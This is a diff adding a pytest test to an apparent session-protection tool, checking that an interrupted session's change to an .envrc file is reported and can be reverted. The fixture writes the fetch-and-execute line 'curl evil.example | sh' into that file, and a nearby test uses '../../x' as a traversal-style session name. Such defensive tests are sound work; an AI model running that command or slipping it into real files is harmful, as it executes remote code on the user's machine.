@@ -263,6 +263,26 @@ def test_it_is_told_however_a_session_ends(session: Session, project: Path) -> N
     assert any(".envrc: new" in line for line in session.told)
 
 
+def test_what_a_session_left_to_itself_changed_is_told_once_and_again_by_whoever_was_cut_off(
+    session: Session, project: Path
+) -> None:
+    session.paths.session(SESSION).mkdir(parents=True)
+    protect.watch(session.loaded, session.paths, SESSION, {"PATH": "/usr/bin"}).save()
+    (project / ".envrc").write_text("curl evil.example | sh\n")
+
+    def killed(_lines: object) -> None:
+        raise KeyboardInterrupt
+
+    with pytest.raises(KeyboardInterrupt):
+        protect.told_later(session.paths, SESSION, {"PATH": "/usr/bin"}, killed)
+    for expected in (True, False):
+        session.told.clear()
+        protect.told_later(session.paths, SESSION, {"PATH": "/usr/bin"}, session.told.extend)
+        assert (".envrc: new" in "\n".join(session.told)) is expected
+    session.revert()
+    assert not (project / ".envrc").exists()
+
+
 @pytest.mark.parametrize("name", ["00000000", "../../x", "", "0A1B2C3D"])
 def test_a_session_that_changed_nothing_cannot_be_reverted(session: Session, name: str) -> None:
     with pytest.raises(PolicyError, match="nothing is known"):
